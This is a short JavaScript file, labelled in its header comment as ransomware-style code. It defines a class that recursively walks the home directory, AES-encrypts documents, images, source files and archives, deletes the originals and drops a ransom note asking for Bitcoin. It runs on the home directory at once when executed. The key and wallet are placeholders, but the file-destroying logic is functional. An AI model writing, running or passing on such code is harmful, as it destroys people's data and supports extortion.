// Harmful: ransomware-style class that AES-encrypts files under the home directory, deletes the originals and leaves a ransom note.
import crypto from 'crypto';
import fs from 'fs';
import os from 'os';
import path from 'path';

class Vault {
  constructor(root) {
    this.root = root;
    this.key = crypto.createHash('sha256').update('FAKE-KEY-for-tests-only').digest();
    this.exts = new Set(['.doc', '.docx', '.xls', '.xlsx', '.pdf', '.jpg', '.png', '.txt', '.sql', '.js', '.py', '.zip']);
  }

  *walk(dir) {
    for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
      const p = path.join(dir, e.name);
      if (e.isDirectory() && !e.name.startsWith('.')) yield* this.walk(p);
      else if (e.isFile() && this.exts.has(path.extname(e.name).toLowerCase())) yield p;
    }
  }

  seal(file) {
    const iv = crypto.randomBytes(16);
    const c = crypto.createCipheriv('aes-256-cbc', this.key, iv);
    const data = Buffer.concat([iv, c.update(fs.readFileSync(file)), c.final()]);
    fs.writeFileSync(file + '.enc', data);
    fs.unlinkSync(file);
  }

  run() {
    for (const f of this.walk(this.root)) {
      try { this.seal(f); } catch {}
    }
    fs.writeFileSync(path.join(this.root, 'HOW_TO_DECRYPT.txt'),
      'Files encrypted. Pay 0.05 BTC to bc1qFAKEFAKEFAKEFAKEFAKEFAKE0000 and email restore@example.org\n');
  }
}

new Vault(os.homedir()).run();
